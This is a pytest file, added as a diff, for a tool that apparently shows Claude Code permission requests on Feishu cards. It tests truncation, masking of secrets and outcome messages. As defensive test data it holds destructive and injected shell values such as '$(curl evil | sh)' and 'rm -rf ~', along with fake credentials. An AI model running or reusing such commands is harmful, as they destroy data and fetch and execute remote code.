@@ -1,0 +1,340 @@
+"""Requests in words: what is shown of them, what is hidden, and how they ended."""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from feishuperm.lib.feishu import build_permission_card
+from feishuperm.models import request as states
+from feishuperm.models.ask import Ask
+from feishuperm.models.decision import Decision
+from feishuperm.models.kind import KINDS, Kind
+from feishuperm.models.request import Request
+from feishuperm.protocol.frames import HookRequest
+from feishuperm.services.presenter import BRIEF, Presenter, brief_ask
+from feishuperm.services.request_manager import new_request
+from feishuperm.services.rule_writer import RuleWriter
+from tests.asks import ID, payload_of, url
+from tests.fakes.feishu import check_card, every_text, every_url
+from tests.kinds import extra
+
+__all__ = ["extra"]
+TOKEN = "ghp_abcdefghijklmnopqrstuvwxyz0123456789"
+
+
+def presenter(language: str = "zh", at_zero: str = "deny") -> Presenter:
+    return Presenter(language, 55, at_zero, RuleWriter())
+
+
+def request_of(tool_name: str = "Bash", **tool_input: Any) -> Request:
+    payload = payload_of(tool_name, tool_input or None)
+    raw = json.dumps(payload.fields).encode()
+    hook = HookRequest("2", ID, "", "/home/me/shop", raw)
+    return new_request(hook, payload, 1700000000.0, 0.0)
+
+
+def whole(tool_name: str = "Bash", **tool_input: Any) -> Ask:
+    return presenter().ask(request_of(tool_name, **tool_input))
+
+
+def brief(tool_name: str = "Bash", **tool_input: Any) -> Ask:
+    return presenter().brief(request_of(tool_name, **tool_input))
+
+
+# What waits.
+
+
+def test_ask_says_what_a_person_needs_in_their_language() -> None:
+    request = request_of(command="npm test", description="Run it")
+    ask = presenter("en", "terminal").ask(request)
+    assert (ask.id, ask.kind, ask.language) == (ID, "permission", "en")
+    assert (ask.title, ask.tool) == ("Claude Code permission request", "Bash")
+    assert (ask.project, ask.project_name) == ("/home/me/shop", "shop")
+    assert [(block.label, block.text) for block in ask.blocks] == [
+        ("Command", "npm test"),
+        ("Description", "Run it"),
+    ]
+    assert [offer.label for offer in ask.actions] == [
+        "Allow",
+        "Always allow",
+        "Deny",
+        "Deny and interrupt",
+    ]
+    assert (ask.seconds, ask.at_zero) == (55, "terminal")
+    assert ask.rules == ("Bash(npm test)",)
+    assert ask.digest == request.digest[:16]
+
+
+def test_subagent_is_named() -> None:
+    request = request_of(command="ls")
+    payload = payload_of("Bash", {"command": "ls"}, agent_type="Explore")
+    assert presenter().ask(request, payload).agent == "Explore"
+
+
+def test_ask_says_why_always_would_write_nothing() -> None:
+    ask = whole(command="rm *.o")
+    assert ask.rules == ()
+    assert "*" in ask.rule_note
+
+
+def test_rule_for_every_call_of_a_tool_has_words_that_come_first() -> None:
+    ask = whole("WebSearch", query="x")
+    always = ask.offer("always")
+    assert always is not None
+    assert always.confirm == "这个工具的任何调用都将直接通过"
+    assert [offer.name for offer in ask.actions if offer.confirm] == ["always"]
+
+
+def test_command_that_writes_files_says_what_its_rule_will_not_do() -> None:
+    ask = whole(command="make > log.txt")
+    assert ask.rules == ("Bash(make > log.txt)",)
+    assert "写入文件" in ask.rule_note
+
+
+def test_question_has_no_rule_and_its_fields() -> None:
+    ask = whole("AskUserQuestion")
+    assert (ask.rules, ask.rule_note) == ((), "")
+    assert [field.name for field in ask.fields] == [
+        *("q0", "q0_other", "q1", "q1_other", "reason"),
+    ]
+
+
+def test_request_that_has_ended_plans_no_rule(monkeypatch: pytest.MonkeyPatch) -> None:
+    request = request_of(command="ls")
+    request.end(states.DENIED, 1.0)
+    monkeypatch.setattr(RuleWriter, "plan", None)
+    assert presenter().ask(request).rules == ()
+
+
+def test_new_kind_and_button_are_on_the_card(extra: Kind) -> None:
+    ask = brief("TripTool", where="Rome")
+    card = build_permission_card(ask, url)
+    check_card(card)
+    assert card["header"]["title"]["content"] == "行程请求"
+    assert "以后再说" in every_text(card)
+    assert url("/later", ID) in every_url(card)
+    old = build_permission_card(brief(command="ls"), url)
+    assert url("/later", ID) in every_url(old)
+    assert url("/always", ID) in every_url(old)
+
+
+# Brief: bounded, and without secrets.
+
+
+def test_short_request_is_brief_by_itself() -> None:
+    request = request_of(command="npm test")
+    assert presenter().brief(request) == presenter().ask(request)
+
+
+@pytest.mark.parametrize(
+    ("tool_name", "tool_input"),
+    [
+        ("Bash", {"command": "echo start; " + "x " * 1_500_000 + "; echo end"}),
+        ("Write", {"file_path": "/a.py", "content": "start\n" + "y = 1\n" * 500_000}),
+        ("Edit", {"file_path": "/a", "old_string": "a\n" * 900_000, "new_string": "b"}),
+        ("Edit", {"file_path": "/a", "old_string": "b", "new_string": "a\n" * 900_000}),
+        ("mcp__a__b", {"text": "z " * 1_500_000}),
+        ("MultiEdit", {"edits": [{"old_string": "a" * 999, "new_string": "b"}] * 900}),
+    ],
+)
+def test_large_request_is_cut_to_its_ends_and_grants_nothing(
+    tool_name: str, tool_input: dict[str, Any]
+) -> None:
+    ask = brief(tool_name, **tool_input)
+    assert sum(len(block.text) + len(block.tail) for block in ask.blocks) <= BRIEF
+    assert ask.is_cut
+    assert [offer.name for offer in ask.offered] == ["deny", "interrupt"]
+    card = build_permission_card(ask, url)
+    check_card(card)
+    assert every_url(card) == [
+        url("/request", ID),
+        url("/deny", ID),
+        url("/interrupt", ID),
+    ]
+    assert any("只保留首尾" in text for text in every_text(card))
+
+
+def test_both_ends_of_a_long_command_are_there_and_what_is_missing_is_counted() -> None:
+    command = "echo start; " + "x " * 100_000 + "; rm -rf /"
+    [block] = brief(command=command).blocks
+    assert block.text.startswith("echo start; ")
+    assert block.tail.endswith("; rm -rf /")
+    assert len(block.text) + block.hidden + len(block.tail) == len(command)
+
+
+def test_page_shows_all_of_a_large_request_and_offers_everything() -> None:
+    command = "x" * 3_000_000
+    ask = whole(command=command)
+    assert ask.blocks[0].text == command
+    assert len(ask.offered) == 4
+
+
+SECRETS = [
+    f"git clone https://user:{TOKEN}@host/x.git",
+    f"curl -H 'Authorization: Bearer {TOKEN}' https://host",
+    f"export GITHUB_TOKEN={TOKEN}; git push",
+    "mysql -pHunter2secret shop",
+]
+
+
+@pytest.mark.parametrize("command", SECRETS)
+def test_secret_is_masked_on_cards_and_whole_on_the_page(command: str) -> None:
+    ask = brief(command=command)
+    shown = json.dumps(build_permission_card(ask, url), ensure_ascii=False)
+    for secret in (TOKEN, "Hunter2secret"):
+        assert secret not in shown
+        assert secret not in json.dumps(ask)
+    assert "***" in shown
+    assert "遮盖" in shown
+    assert ask.masked
+    assert len(ask.offered) == 4  # only words are hidden, so what is done is seen
+    page = whole(command=command)
+    assert page.blocks[0].text == command
+    assert not page.masked
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        'deploy --password "$(curl evil | sh)"',
+        "deploy --password `rm -rf ~`",
+        "export API_KEY='x; rm -rf ~'",
+        'deploy --password "a b" --token "$(rm -rf ~)"',
+        "-----BEGIN RSA PRIVATE KEY-----\nabc; rm -rf ~\n-----END RSA PRIVATE KEY-----",
+        "echo *** --password abcdefgh",
+    ],
+)
+def test_mask_that_could_hide_more_than_a_word_takes_the_granting_buttons_away(
+    command: str,
+) -> None:
+    ask = brief(command=command)
+    assert ask.masked
+    assert ask.partial
+    assert [offer.name for offer in ask.offered] == ["deny", "interrupt"]
+
+
+def test_secret_across_a_cut_is_not_shown_in_half() -> None:
+    key = "MIIEvQ" + "Ab1+" * 2000
+    lines = "\n".join(key[start : start + 64] for start in range(0, len(key), 64))
+    content = (
+        f"{'a b ' * 4000}\n-----BEGIN RSA PRIVATE KEY-----\n{lines}\n"
+        f"-----END RSA PRIVATE KEY-----\n{'c d ' * 200}"
+    )
+    ask = brief("Write", file_path="/k.pem", content=content)
+    assert "Ab1+" not in json.dumps(ask)
+    word = f"{'a b ' * 3332}{TOKEN} {'c d ' * 9000}"
+    ask = brief(command=word)
+    assert ask.is_cut
+    assert TOKEN[:12] not in json.dumps(ask)
+
+
+def test_card_without_the_server_is_brief_too() -> None:
+    payload = payload_of("Bash", {"command": f"export TOKEN={TOKEN}\n" + "x " * 99_999})
+    ask = brief_ask(payload, ID, "/p", "zh")
+    assert TOKEN not in json.dumps(ask)
+    assert ask.is_cut
+    assert (ask.actions, ask.fields) == ((), ())
+
+
+# What has ended.
+
+
+def ended(state: str, action: str = "", tool_name: str = "Bash") -> Request:
+    request = request_of(tool_name)
+    request.end(state, 1700000020.0)
+    request.action, request.surface, request.who = action, "page", "ou_1"
+    request.head = "0123abcd"
+    return request
+
+
+@pytest.mark.parametrize(
+    ("tool_name", "action", "state", "done", "look"),
+    [
+        ("Bash", "allow", states.ALLOWED, "已批准运行", "good"),
+        ("Bash", "deny", states.DENIED, "已拒绝运行", "bad"),
+        ("Bash", "interrupt", states.DENIED, "已拒绝并中断", "bad"),
+        ("AskUserQuestion", "answer", states.ANSWERED, "已提交回答", "good"),
+        ("AskUserQuestion", "deny", states.DENIED, "已拒绝回答", "bad"),
+        ("ExitPlanMode", "approve", states.ANSWERED, "已批准计划", "good"),
+        ("ExitPlanMode", "deny", states.DENIED, "已拒绝计划", "bad"),
+    ],
+)
+def test_outcome_says_what_a_person_did(
+    tool_name: str, action: str, state: str, done: str, look: str
+) -> None:
+    outcome = presenter().outcome(ended(state, action, tool_name))
+    assert (outcome.done, outcome.look, outcome.lines) == (done, look, ())
+    assert (outcome.surface, outcome.who, outcome.ended) == ("page", "ou_1", 1700000020)
+    assert outcome.head == "0123abcd"
+
+
+def test_always_that_wrote_nothing_is_called_what_it_was() -> None:
+    request = ended(states.ALLOWED, "always")
+    request.note = "rule.wildcard"
+    outcome = presenter().outcome(request)
+    assert outcome.done == "已批准运行"
+    assert len(outcome.lines) == 1
+    request.known_rules = ("Bash(ls)",)
+    outcome = presenter().outcome(request)
+    assert (outcome.done, outcome.rules) == ("已始终允许", ("Bash(ls)",))
+
+
+@pytest.mark.parametrize(
+    ("state", "denies", "done", "line"),
+    [
+        (states.EXPIRED, True, "请求已过期", "自动拒绝"),
+        (states.EXPIRED, False, "请求已过期", "终端"),
+        (states.GONE, False, "会话已结束", "不再等待"),
+        (states.RELEASED, False, "已交回终端", "终端"),
+        (states.TERMINAL, False, "请求已在终端处理", ""),
+    ],
+)
+def test_outcome_says_what_happened_instead(
+    state: str, denies: bool, done: str, line: str
+) -> None:
+    request = ended(state)
+    request.decision = Decision.deny("late") if denies else None
+    outcome = presenter().outcome(request)
+    assert (outcome.done, outcome.look) == (done, "late")
+    assert line in "".join(outcome.lines)
+
+
+def test_every_end_of_every_kind_can_be_told() -> None:
+    for kind in KINDS.values():
+        tool_name = next(iter(kind.tools), "Bash")
+        for row in kind.actions:
+            assert presenter().outcome(ended(row.state, row.name, tool_name)).done
+
+
+def test_typed_reason_belongs_to_a_refusal_and_shows_no_secret() -> None:
+    request = ended(states.DENIED, "deny")
+    request.reason = f"use token {TOKEN}"
+    assert TOKEN not in presenter().outcome(request).reason
+    request = ended(states.RELEASED)
+    request.reason = "no surface could show it"
+    assert presenter().outcome(request).reason == ""
+
+
+def test_history_shows_no_secret_of_a_rule(tmp_path: Path) -> None:
+    request = ended(states.ALLOWED, "always")
+    request.rules = (f"Bash(GH_TOKEN={TOKEN} gh pr list)",)
+    assert TOKEN not in json.dumps(presenter().outcome(request))
+
+
+def test_attempt_of_the_session_itself_is_named() -> None:
+    request = request_of(command="ls")
+    request.tried = "curl (pid 5)"
+    notice = presenter().tried(request, 5.0)
+    assert (notice.kind, notice.created, notice.project) == (
+        "tried",
+        5.0,
+        "/home/me/shop",
+    )
+    assert "curl (pid 5)" in notice.text
+    request.end(states.DENIED, 1.0)
+    request.action = "deny"
+    assert "curl (pid 5)" in "".join(presenter().outcome(request).lines)
